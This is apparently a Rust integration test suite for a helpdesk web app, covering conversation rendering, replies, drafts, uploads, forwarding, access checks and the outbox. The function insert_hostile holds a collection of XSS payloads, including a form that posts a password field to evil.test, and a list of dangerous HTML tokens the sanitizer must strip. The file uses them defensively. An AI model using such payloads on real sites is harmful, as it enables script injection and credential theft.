//! The conversation page and its forms over HTTP against the real binary, on all three
//! backends: every kind of thread renders (customer mail with files, our reply with its
//! delivery state, notes, line items), remote images wait for "Load images", access is
//! checked, and reply (with a pasted image), undo, draft autosave and restore, retry,
//! uploads and their limits, forward, new conversations and logged phone calls write the
//! right rows and outbox entries.

use diesel::prelude::*;
use postdesk::db::schema::{attachments, conversations, outbox, threads};
use postdesk::db::types::{
    ConversationState, ConversationType, LineItemAction, MailboxAccess, OutboxKind, OutboxStatus,
    ThreadType,
};
use postdesk::db::{AnyConnection, Backend};
use postdesk::models::{mailbox, mailbox_user, thread};

use crate::app::{ADMIN_EMAIL, ADMIN_PASSWORD, Client, TestApp, csrf_in};
use crate::authz_matrix::add_user;
use crate::support::BACKENDS;

const PASSWORD: &str = "blue-harbour-17";

/// A PNG small enough to paste: the signature and some filler.
pub(crate) const PNG: &[u8] = b"\x89PNG\r\n\x1a\npasted-image-bytes";

/// An app with one mailbox and one seeded conversation.
pub(crate) struct Fixture {
    pub app: TestApp,
    pub mailbox_id: i64,
    pub conversation_id: i64,
    /// The customer message with a PNG attachment.
    pub customer_thread: i64,
    /// A second customer message with a remote (tracking) image.
    pub remote_thread: i64,
    /// A PNG attachment of the customer message.
    pub png_id: i64,
}

/// Installs on `backend`, makes mailbox "Support", an agent who may only view it
/// (`viewer@example.com`) and one who may not see it (`outsider@example.com`), and a
/// conversation with customer mail, a remote-image message, a note and a line item.
pub(crate) fn fixture(backend: Backend) -> Fixture {
    let app = TestApp::installed(backend);
    let mut conn = app.conn();
    let now = postdesk::db::now();
    let mailbox_id = mailbox::create(
        &mut conn,
        &mailbox::NewMailbox {
            name: "Support",
            email: "support@example.com",
            created_at: now,
            updated_at: now,
        },
    )
    .expect("mailbox");
    let viewer = add_user(&app, "viewer@example.com", "agent");
    add_user(&app, "outsider@example.com", "agent");
    mailbox_user::replace_grants(&mut conn, viewer, &[(mailbox_id, MailboxAccess::View)], now)
        .expect("grant");
    let seeded = crate::mail_admin::seed_mail(&mut conn, app.data.path(), mailbox_id, "conv");
    let conversation_id: i64 = threads::table
        .find(seeded.thread_id)
        .select(threads::conversation_id)
        .first(&mut conn)
        .expect("conversation");
    let admin_id = admin_id(&mut conn);
    // After the seeded message, however long seeding took.
    let later = postdesk::db::now() + chrono::Duration::seconds(1);
    let remote_thread = thread::add(
        &mut conn,
        &thread::NewThread {
            conversation_id,
            thread_type: ThreadType::Customer.as_i16(),
            status: 1,
            body_html: r#"<p>Our logo:</p><img src="https://tracker.example.net/pixel.gif?id=7" alt="logo">"#,
            body_text: "Our logo:",
            from_email: "carol@customer.test",
            from_name: "Carol",
            created_at: later,
            updated_at: later,
            ..Default::default()
        },
    )
    .expect("remote-image thread");
    postdesk::conversations::reply::note(
        &mut conn,
        conversation_id,
        admin_id,
        "<p>Check the invoice number first.</p>",
    )
    .expect("note");
    thread::add(
        &mut conn,
        &thread::NewThread {
            conversation_id,
            thread_type: ThreadType::LineItem.as_i16(),
            status: 3,
            action_type: Some(LineItemAction::StatusChanged.as_i16()),
            action_data: r#"{"status":3,"previous":1,"by":{"id":1,"name":"Ada Admin"}}"#,
            created_by_user_id: Some(admin_id),
            created_at: later + chrono::Duration::seconds(1),
            updated_at: later + chrono::Duration::seconds(1),
            ..Default::default()
        },
    )
    .expect("line item");
    Fixture {
        app,
        mailbox_id,
        conversation_id,
        customer_thread: seeded.thread_id,
        remote_thread,
        png_id: seeded.png_id,
    }
}

pub(crate) fn admin_id(conn: &mut AnyConnection) -> i64 {
    use postdesk::db::schema::users;
    users::table
        .filter(users::email.eq(ADMIN_EMAIL))
        .select(users::id)
        .first(conn)
        .expect("admin id")
}

fn logged_in(app: &TestApp, email: &str, password: &str) -> Client {
    let c = app.client();
    assert_eq!(c.login(email, password).status, 303, "login as {email}");
    c
}

fn outbox_rows(conn: &mut AnyConnection) -> Vec<(i64, i64, i16, i16)> {
    outbox::table
        .order(outbox::id)
        .select((outbox::id, outbox::thread_id, outbox::kind, outbox::status))
        .load(conn)
        .expect("outbox")
}

/// The JSON id an upload answered with.
fn uploaded_id(body: &str) -> i64 {
    let v: serde_json::Value = serde_json::from_str(body).expect("upload answer is JSON");
    v["id"].as_i64().expect("upload id")
}

#[test]
fn conversation_page_threads_forms_and_outbox_on_every_backend() {
    for backend in BACKENDS {
        let f = fixture(backend);
        let mut conn = f.app.conn();
        let page_path = format!("/conversations/{}", f.conversation_id);
        let admin = logged_in(&f.app, ADMIN_EMAIL, ADMIN_PASSWORD);

        // Every kind of thread renders.
        let page = admin.get(&page_path);
        assert_eq!(page.status, 200, "{backend:?}: {}", page.body);
        let body = &page.body;
        assert!(body.contains("Invoice conv"), "{backend:?}: subject");
        assert!(
            body.contains("Please see the attached files."),
            "{backend:?}: customer text"
        );
        assert!(body.contains(&format!("id=\"thread-{}\"", f.customer_thread)));
        assert!(
            body.contains("class=\"thread note\"")
                && body.contains("Check the invoice number first."),
            "{backend:?}: note"
        );
        assert!(
            body.contains("Ada Admin changed the status to Closed"),
            "{backend:?}: line item sentence: {body}"
        );
        assert!(
            body.contains(&format!("href=\"/attachments/{}\"", f.png_id)),
            "{backend:?}: attachment link"
        );
        assert!(
            body.contains(&format!("/threads/{}/original", f.customer_thread)),
            "{backend:?}: show original"
        );
        assert!(body.contains("id=\"customer-card\"") && body.contains("carol@customer.test"));
        assert!(
            body.contains("id=\"reply\"")
                && body.contains("id=\"note\"")
                && body.contains("id=\"forward\"")
        );
        // Remote images wait for the agent.
        assert!(
            !body.contains("tracker.example.net"),
            "{backend:?}: remote image shown before asked"
        );
        assert!(body.contains(&format!("id=\"load-images-{}\"", f.remote_thread)));
        let shown = admin.get(&format!("{page_path}?images={}", f.remote_thread));
        assert!(
            shown
                .body
                .contains("https://tracker.example.net/pixel.gif?id=7"),
            "{backend:?}: images on request"
        );

        // Access: no access is a 404, view access shows the page without the editors and
        // refuses writing.
        let outsider = logged_in(&f.app, "outsider@example.com", PASSWORD);
        assert_eq!(
            outsider.get(&page_path).status,
            404,
            "{backend:?}: outsider"
        );
        let viewer = logged_in(&f.app, "viewer@example.com", PASSWORD);
        let seen = viewer.get(&page_path);
        assert_eq!(seen.status, 200);
        assert!(
            !seen.body.contains("id=\"reply\""),
            "{backend:?}: a viewer gets no editor"
        );
        let refused =
            viewer.post_from(&page_path, &format!("{page_path}/reply"), &[("body", "hi")]);
        assert_eq!(refused.status, 403, "{backend:?}: a viewer may not reply");

        // Upload limits and ownership.
        let token = csrf_in(&page.body);
        assert_eq!(
            admin
                .post_bytes("/uploads", "", "image/png", "a.png", PNG)
                .status,
            403,
            "no CSRF header"
        );
        let big = vec![0u8; 15 * 1024 * 1024 + 1];
        let too_big = admin.post_bytes(
            "/uploads",
            &token,
            "application/octet-stream",
            "big.bin",
            &big,
        );
        assert_eq!(too_big.status, 413, "{backend:?}: over the limit");
        let pasted = admin.post_bytes("/uploads", &token, "image/png", "pasted%20image.png", PNG);
        assert_eq!(pasted.status, 201, "{backend:?}: {}", pasted.body);
        let image_id = uploaded_id(&pasted.body);
        let doc = admin.post_bytes("/uploads", &token, "text/plain", "notes.txt", b"plain file");
        let doc_id = uploaded_id(&doc.body);
        assert_eq!(admin.get(&format!("/uploads/{image_id}")).status, 200);
        assert_eq!(
            viewer.get(&format!("/uploads/{image_id}")).status,
            404,
            "only the uploader sees an upload"
        );

        // Reply with bold text, a pasted image and a file: one thread, one queued outbox row.
        let html = format!(
            r#"<div><b>Bold answer</b> and a picture <img src="/uploads/{image_id}" alt="pasted"></div>"#
        );
        let sent = admin.post(
            &format!("{page_path}/reply"),
            &[
                ("csrf_token", &token),
                ("format", "html"),
                ("body", &html),
                ("cc", "boss@customer.test"),
                ("bcc", ""),
                ("status_after", "2"),
                ("upload", &doc_id.to_string()),
            ],
        );
        assert_eq!(sent.status, 303, "{backend:?}: {}", sent.body);
        let (reply_id, reply_html, cc): (i64, String, String) = threads::table
            .filter(threads::conversation_id.eq(f.conversation_id))
            .filter(threads::thread_type.eq(ThreadType::Message.as_i16()))
            .order(threads::id.desc())
            .select((threads::id, threads::body_html, threads::cc_list))
            .first(&mut conn)
            .expect("reply thread");
        assert!(reply_html.contains("<b>Bold answer</b>"), "{reply_html}");
        assert!(
            reply_html.contains(&format!("cid:upload-{image_id}@postdesk")),
            "{reply_html}"
        );
        assert!(cc.contains("boss@customer.test"));
        let files: Vec<(String, bool, String)> = attachments::table
            .filter(attachments::thread_id.eq(reply_id))
            .order(attachments::id)
            .select((
                attachments::content_id,
                attachments::is_inline,
                attachments::file_name,
            ))
            .load(&mut conn)
            .expect("files");
        assert_eq!(
            files,
            vec![
                (
                    format!("upload-{image_id}@postdesk"),
                    true,
                    "pasted image.png".to_string()
                ),
                (String::new(), false, "notes.txt".to_string()),
            ],
            "{backend:?}"
        );
        let queued = outbox_rows(&mut conn);
        assert_eq!(queued.len(), 1);
        assert_eq!(
            (queued[0].1, queued[0].2, queued[0].3),
            (
                reply_id,
                OutboxKind::Reply.as_i16(),
                OutboxStatus::Queued.as_i16()
            )
        );
        let after = admin.get(&page_path).body;
        assert!(
            after.contains(&format!("id=\"undo-{reply_id}\"")),
            "{backend:?}: undo offered"
        );
        assert!(
            after.contains("/attachments/") && after.contains("?inline=1"),
            "the pasted image shows in place"
        );

        // Undo: nothing is sent and the reply is back in the editor as the draft.
        let undone = admin.post(
            &format!("/threads/{reply_id}/undo"),
            &[("csrf_token", &token)],
        );
        assert_eq!(undone.status, 303);
        assert!(
            undone.location.contains("done=conv_undone"),
            "{backend:?}: {}",
            undone.location
        );
        assert_eq!(
            outbox_rows(&mut conn)[0].3,
            OutboxStatus::Cancelled.as_i16()
        );
        let restored = admin.get(&page_path).body;
        assert!(
            !restored.contains(&format!("id=\"thread-{reply_id}\"")),
            "a draft is not a message"
        );
        assert!(restored.contains("Your draft was restored."));
        // The textarea holds the HTML escaped (Tera escapes `/` too).
        assert!(
            restored.contains("Bold answer")
                && restored.contains(&format!("&#x2F;uploads&#x2F;{image_id}&quot;")),
            "{backend:?}: draft body in the editor"
        );
        assert!(
            restored.contains(&format!("name=\"upload\" value=\"{doc_id}\"")),
            "the file comes back too"
        );

        // Autosave replaces the draft; sending drops it.
        let saved = admin.post_with_header(
            &format!("{page_path}/draft"),
            &token,
            &[
                ("format", "html"),
                ("body", "<p>Second thoughts</p>"),
                ("cc", "x@customer.test"),
            ],
        );
        assert_eq!(saved.status, 204, "{backend:?}: {}", saved.body);
        let drafts = |conn: &mut AnyConnection| -> i64 {
            threads::table
                .filter(threads::conversation_id.eq(f.conversation_id))
                .filter(threads::state.eq(ConversationState::Draft.as_i16()))
                .count()
                .get_result(conn)
                .expect("count")
        };
        assert_eq!(drafts(&mut conn), 1, "{backend:?}: one draft per agent");
        let page_now = admin.get(&page_path).body;
        assert!(page_now.contains("Second thoughts") && page_now.contains("x@customer.test"));
        let empty = admin.post(
            &format!("{page_path}/reply"),
            &[
                ("csrf_token", &token),
                ("format", "html"),
                ("body", "<p> </p>"),
            ],
        );
        assert_eq!(empty.status, 422, "{backend:?}: an empty reply is refused");
        assert!(empty.body.contains("Write something first."));
        let resent = admin.post(
            &format!("{page_path}/reply"),
            &[
                ("csrf_token", &token),
                ("format", "text"),
                ("body", "Plain <answer>\nline two"),
            ],
        );
        assert_eq!(resent.status, 303);
        assert_eq!(drafts(&mut conn), 0, "{backend:?}: sending drops the draft");
        let (plain_id, plain_html): (i64, String) = threads::table
            .filter(threads::thread_type.eq(ThreadType::Message.as_i16()))
            .filter(threads::conversation_id.eq(f.conversation_id))
            .order(threads::id.desc())
            .select((threads::id, threads::body_html))
            .first(&mut conn)
            .expect("plain reply");
        assert!(
            plain_html.contains("Plain &lt;answer&gt;<br>line two"),
            "{plain_html}"
        );

        // A failed send shows why and can be retried.
        diesel::update(outbox::table.filter(outbox::thread_id.eq(plain_id)))
            .set((
                outbox::status.eq(OutboxStatus::Failed.as_i16()),
                outbox::last_error.eq("550 mailbox unavailable"),
            ))
            .execute(&mut conn)
            .expect("fail the row");
        let failed = admin.get(&page_path).body;
        assert!(
            failed.contains("Failed: 550 mailbox unavailable"),
            "{backend:?}"
        );
        assert!(failed.contains(&format!("id=\"retry-{plain_id}\"")));
        let retried = admin.post(
            &format!("/threads/{plain_id}/retry"),
            &[("csrf_token", &token)],
        );
        assert_eq!(retried.status, 303);
        // The worker tries it again at once (and fails again, for its own reason: this
        // mailbox has no SMTP server); wait for that before going on.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        loop {
            let (status, error): (i16, String) = outbox::table
                .filter(outbox::thread_id.eq(plain_id))
                .select((outbox::status, outbox::last_error))
                .first(&mut conn)
                .expect("status");
            if status == OutboxStatus::Failed.as_i16() && !error.starts_with("550") {
                break;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "{backend:?}: the retry was never attempted"
            );
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let nothing = admin.post(
            &format!("/threads/{}/retry", f.customer_thread),
            &[("csrf_token", &token)],
        );
        assert_eq!(
            nothing.status, 404,
            "a customer message has nothing to retry"
        );

        // A note is stored, never queued.
        let before = outbox_rows(&mut conn).len();
        let noted = admin.post(
            &format!("{page_path}/note"),
            &[("csrf_token", &token), ("body", "Called the bank")],
        );
        assert_eq!(noted.status, 303);
        assert_eq!(
            outbox_rows(&mut conn).len(),
            before,
            "{backend:?}: notes are not mailed"
        );

        // Forward one thread to any address.
        let fwd = admin.post(
            &format!("{page_path}/forward"),
            &[
                ("csrf_token", &token),
                ("to", "accounting@partner.test"),
                ("thread_id", &f.customer_thread.to_string()),
                ("note", "FYI"),
            ],
        );
        assert_eq!(fwd.status, 303, "{backend:?}: {}", fwd.body);
        let last = *outbox_rows(&mut conn).last().expect("row");
        assert_eq!(last.2, OutboxKind::Forward.as_i16());
        let to: String = threads::table
            .find(last.1)
            .select(threads::to_list)
            .first(&mut conn)
            .expect("to");
        assert!(to.contains("accounting@partner.test"));
        let bad = admin.post(
            &format!("{page_path}/forward"),
            &[("csrf_token", &token), ("to", "not-an-address")],
        );
        assert_eq!(bad.status, 422, "{backend:?}");

        // New conversation to two customers, one each; and a logged phone call.
        let new_path = format!("/mailboxes/{}/new", f.mailbox_id);
        assert_eq!(admin.get(&new_path).status, 200);
        assert_eq!(
            viewer.get(&new_path).status,
            403,
            "view access cannot start mail"
        );
        assert_eq!(outsider.get(&new_path).status, 404);
        let before = outbox_rows(&mut conn).len();
        let started = admin.post(
            &new_path,
            &[
                ("csrf_token", &token),
                ("to", "p@one.test, q@two.test"),
                ("one_each", "1"),
                ("subject", "Your order"),
                ("body", "It shipped."),
                ("format", "text"),
            ],
        );
        assert_eq!(started.status, 303, "{backend:?}: {}", started.body);
        let rows = outbox_rows(&mut conn);
        assert_eq!(rows.len(), before + 2, "{backend:?}: one mail each");
        assert!(
            rows[before..]
                .iter()
                .all(|r| r.2 == OutboxKind::NewConversation.as_i16())
        );
        let subjects: i64 = conversations::table
            .filter(conversations::subject.eq("Your order"))
            .count()
            .get_result(&mut conn)
            .expect("count");
        assert_eq!(subjects, 2);
        let no_subject = admin.post(
            &new_path,
            &[
                ("csrf_token", &token),
                ("to", "p@one.test"),
                ("subject", ""),
                ("body", "x"),
            ],
        );
        assert_eq!(no_subject.status, 422);
        let before = outbox_rows(&mut conn).len();
        let phoned = admin.post(
            &format!("/mailboxes/{}/phone", f.mailbox_id),
            &[
                ("csrf_token", &token),
                ("email", "caller@phone.test"),
                ("name", "Pat Caller"),
                ("subject", "Phoned about delivery"),
                ("note", "Wants Friday"),
            ],
        );
        assert_eq!(phoned.status, 303, "{backend:?}: {}", phoned.body);
        let kind: i16 = conversations::table
            .filter(conversations::subject.eq("Phoned about delivery"))
            .select(conversations::conversation_type)
            .first(&mut conn)
            .expect("phone conversation");
        assert_eq!(kind, ConversationType::Phone.as_i16());
        assert_eq!(
            outbox_rows(&mut conn).len(),
            before,
            "{backend:?}: phone calls are not mailed"
        );

        // Thread order preference.
        let ordered = admin.post(
            "/preferences/thread-order",
            &[
                ("csrf_token", &token),
                ("newest_first", "1"),
                ("return", &page_path),
            ],
        );
        assert_eq!(
            (ordered.status, ordered.location.as_str()),
            (303, page_path.as_str())
        );
        let newest = admin.get(&page_path).body;
        let pos = |id: i64| {
            newest
                .find(&format!("id=\"thread-{id}\""))
                .expect("thread on page")
        };
        assert!(
            pos(f.remote_thread) < pos(f.customer_thread),
            "{backend:?}: newest first: {:?}",
            newest
                .match_indices("id=\"thread-")
                .map(|(i, _)| &newest[i..i + 14])
                .collect::<Vec<_>>()
        );
        let off_site = admin.post(
            "/preferences/thread-order",
            &[
                ("csrf_token", &token),
                ("newest_first", "0"),
                ("return", "//evil.test/"),
            ],
        );
        assert_eq!(off_site.location, "/", "no open redirect");
    }
}

#[test]
fn hostile_customer_html_is_inert_in_the_page() {
    let f = fixture(Backend::Sqlite);
    let mut conn = f.app.conn();
    let id = insert_hostile(&mut conn, f.conversation_id);
    let admin = logged_in(&f.app, ADMIN_EMAIL, ADMIN_PASSWORD);
    let page = admin.get(&format!("/conversations/{}", f.conversation_id));
    let thread_html = page
        .body
        .split(&format!("id=\"thread-{id}\""))
        .nth(1)
        .expect("hostile thread on the page");
    let thread_html = thread_html
        .split("</li>")
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "<svg",
        "<iframe",
        "style=",
        "<form",
    ] {
        assert!(!thread_html.contains(bad), "{bad} survived: {thread_html}");
    }
}

/// A customer message trying everything: scripts, handlers, javascript: links, SVG,
/// iframes and a full-page overlay. Each would set `window.pwned` or the title.
pub(crate) fn insert_hostile(conn: &mut AnyConnection, conversation_id: i64) -> i64 {
    let hostile = r#"<p>Hello</p><script>window.pwned=1;document.title='pwned'</script>
<img src="x" onerror="window.pwned=2;document.title='pwned'">
<a href="javascript:window.pwned=3" id="evil-link">click</a>
<svg onload="window.pwned=4"><script>window.pwned=5</script></svg>
<iframe src="javascript:parent.pwned=6"></iframe><iframe srcdoc="<script>parent.pwned=7</script>"></iframe>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:red" id="overlay">overlay</div>
<form action="https://evil.test/"><input name="password"></form>
<details open ontoggle="window.pwned=8"><summary>x</summary></details>
<object data="javascript:window.pwned=9"></object><embed src="javascript:window.pwned=10">
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=11"></style></mglyph></table></mtext></math>"#;
    let now = postdesk::db::now() + chrono::Duration::seconds(5);
    thread::add(
        conn,
        &thread::NewThread {
            conversation_id,
            thread_type: ThreadType::Customer.as_i16(),
            status: 1,
            body_html: hostile,
            body_text: "Hello",
            from_email: "mallory@evil.test",
            from_name: "Mallory",
            created_at: now,
            updated_at: now,
            ..Default::default()
        },
    )
    .expect("hostile thread")
}
